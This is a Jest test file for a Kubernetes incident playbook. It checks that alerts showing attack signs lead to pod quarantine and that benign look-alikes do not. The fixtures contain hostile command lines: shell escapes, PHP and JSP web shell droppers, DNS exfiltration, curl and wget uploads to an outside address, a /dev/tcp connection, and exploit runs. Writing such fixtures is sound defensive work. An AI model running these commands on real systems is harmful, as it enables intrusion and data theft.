import type { Alert } from '../../core/incident/alert';
import { playbook } from '../../core/policy/playbook';
import { OUTWARD_SIGNS } from '../../core/policy/table/outwardSigns';
import { signsOf } from '../../core/policy/table/raise';
import { TOOL_SIGNS } from '../../core/policy/table/toolSigns';
import { alertOf, contextOf } from '../support/alerts';
import { factsWith } from '../support/pods';

type Fields = Readonly<Record<string, string>>;

const SHELL = 'Run shell untrusted';
const alertWith = (fields: Fields, rule = SHELL): Alert =>
  alertOf('pod-quarantine-test', { rule, tags: [], fields, output: '' });
const command = (text: string): Fields => ({ 'proc.cmdline': text, 'proc.name': 'sh' });
const decided = (alert: Alert) => playbook(alert, { ...contextOf(alert), facts: factsWith() }).decision;
const C2 = 'Outbound Connection to C2 Servers';
const OUTSIDE = '10.244.1.9:40110->203.0.113.9:443';
const WALLET = `4${'8AbCdEfGhJ'.repeat(9)}kLmN`;

/** GTFOBins, MITRE ATT&CK for Containers (T1048, T1059, T1102, T1505.003, T1572, T1613), CVE-2023-4911. */
const ATTACKS: readonly (readonly [name: string, fields: Fields, rule?: string])[] = [
  ['shell_out_of_a_tool', command(`awk BEGIN {system("/bin/sh")}`)],
  ['shell_out_of_a_tool', command('find . -exec /bin/sh -p ; -quit')],
  ['shell_out_of_a_tool', command('vim -c :!/bin/sh')],
  ['shell_out_of_a_tool', command('tar cf /dev/null x --checkpoint=1 --checkpoint-action=exec=/bin/sh')],
  ['shell_out_of_a_tool', command(`python3 -c import os; os.system("/bin/sh")`)],
  ['shell_out_of_a_tool', command(`perl -e exec "/bin/sh"`)],
  ['server_never_starts_shells', { 'proc.name': 'sh', 'proc.pname': 'nginx', 'proc.cmdline': 'sh -c ls' }],
  ['web_shell', command('sh -c echo <?php system($_GET["c"]); ?> > /srv/www/a.php')],
  ['web_shell', command('tee a.jsp <%Runtime.getRuntime().exec(request.getParameter("c"))%>')],
  ['names_that_carry_data', command('sh -c nslookup $(whoami).a.example')],
  ['names_that_carry_data', command('sh -c dig `id -un`.a.example')],
  ['network_swept', command('bash -c for i in {1..254}; do ping -c1 10.0.0.$i; done')],
  ['network_swept', command('nc -nvz 10.0.0.9 1-1024')],
  ['database_made_to_run', command(`psql -c COPY t FROM PROGRAM 'id'`)],
  ['database_made_to_run', command('redis-cli -h 10.0.0.9 config set dir /var/spool/cron')],
  ['database_made_to_run', command(`mysql -e select '' INTO OUTFILE '/srv/www/a.php'`)],
  ['intruders_program', command('fscan -h 10.0.0.0/16')],
  ['intruders_program', command('./CVE-2022-0847')],
  ['intruders_program', command('sh -c ./exploit_dirtypipe /usr/bin/su')],
  ['miner_wallet', command(`kworker -o 203.0.113.9:443 -u ${WALLET}`)],
  [
    'download_by_interpreter',
    command(`python3 -c import urllib.request as u;u.urlretrieve("http://203.0.113.9/x","x")`),
  ],
  ['setuid_exploit', { 'proc.env': 'GLIBC_TUNABLES=glibc.malloc.mxfast=glibc.malloc.mxfast=A' }],
  ['removed_program', { 'proc.exepath': '/usr/local/lib/agent (deleted)' }],
  ['shell_copied', command('cp /bin/bash /var/tmp/b')],
  ['shell_copied', command('sh -c cp /bin/sh /usr/lib/.s')],
  ['upload_to_address', command('curl -F file=@/srv/a.tgz http://203.0.113.9/u')],
  ['upload_to_address', command('wget --post-file=/srv/a.tgz http://203.0.113.9:8000')],
  ['drop_site', command('curl -s https://pastebin.com/raw/abcd')],
  ['drop_site', command('wget https://a1b2.trycloudflare.com/x')],
  ['connection_of_shell', command('bash -c exec 5<>/dev/tcp/203.0.113.9/443')],
  ['ssh_without_check', command('ssh -o StrictHostKeyChecking=no -p 2222 a@203.0.113.9')],
  [
    'rights_explored',
    command('curl -k https://10.96.0.1/apis/authorization.k8s.io/v1/selfsubjectrulesreviews -X POST'),
  ],
  ['rights_explored', command('kubectl --token=eyJhbGciOi get pods')],
  ['known_attacker', { 'proc.name': 'agentd', 'fd.name': OUTSIDE }, C2],
];

test.each(ATTACKS.map(([name, fields, rule = SHELL]) => [name, fields, rule] as const))(
  'the sign %s is in %j',
  (name, fields, rule) => {
    const alert = alertWith(fields, rule);
    expect(signsOf(alert, factsWith()).map((sign) => sign.name)).toContain(name);
    expect(decided(alert)).toBe('quarantine_pod');
  },
);

test('every sign of these files is above', () => {
  const signs = [...TOOL_SIGNS, ...OUTWARD_SIGNS].map(({ name }) => name);
  expect(signs.toSorted()).toEqual([...new Set(ATTACKS.map(([name]) => name))].toSorted());
});

const OTHERS: readonly (readonly [what: string, fields: Fields, rule?: string])[] = [
  ['a search with awk', command('awk BEGIN{FS=":"} {print $1}')],
  ['a search that runs a tool', command('find /srv -name *.tmp -exec rm {} ;')],
  ['a shell that a hook of the container starts', { 'proc.name': 'sh', 'proc.pname': 'containerd-shim' }],
  ['a page in PHP', command('php -r echo "<?php phpinfo(); ?>";')],
  ['a search for web shells', command('grep -r <?php system( /srv')],
  ['a look-up of its own name', command('sh -c nslookup $(hostname).db.shop.svc')],
  ['a loop over a few machines', command('sh -c for i in $(seq 1 3); do ping -c1 db-$i; done')],
  ['a scan for a vulnerability by its number', command('trivy image --vex cve-2022-0847.json a:1')],
  ['a digest', command(`sha256sum -c ${'0a'.repeat(32)}`)],
  ['a setting of glibc', { 'proc.env': 'GLIBC_TUNABLES=glibc.pthread.rseq=0' }],
  ['an upload inside the cluster', command('curl -F file=@/srv/a.tgz http://10.0.0.9/u')],
  ['a wait for a port inside the cluster', command('bash -c exec 5<>/dev/tcp/10.96.0.9/5432')],
  ['Git by SSH', command('ssh -o StrictHostKeyChecking=no git@git.example.com git-upload-pack a')],
  ['a proxy that goes out for others', { 'proc.name': 'squid', 'fd.name': OUTSIDE }, C2],
  ['a connection inside the cluster', { 'proc.name': 'a', 'fd.name': '10.0.0.1:2->10.0.0.9:443' }, C2],
];

test.each(OTHERS.map(([what, fields, rule = SHELL]) => [what, fields, rule] as const))(
  '%s shows nothing',
  (_what, fields, rule) => {
    const names = signsOf(alertWith(fields, rule), factsWith()).map(({ name }) => name);
    expect(names.filter((name) => [...TOOL_SIGNS, ...OUTWARD_SIGNS].some((sign) => sign.name === name))).toEqual([]);
  },
);
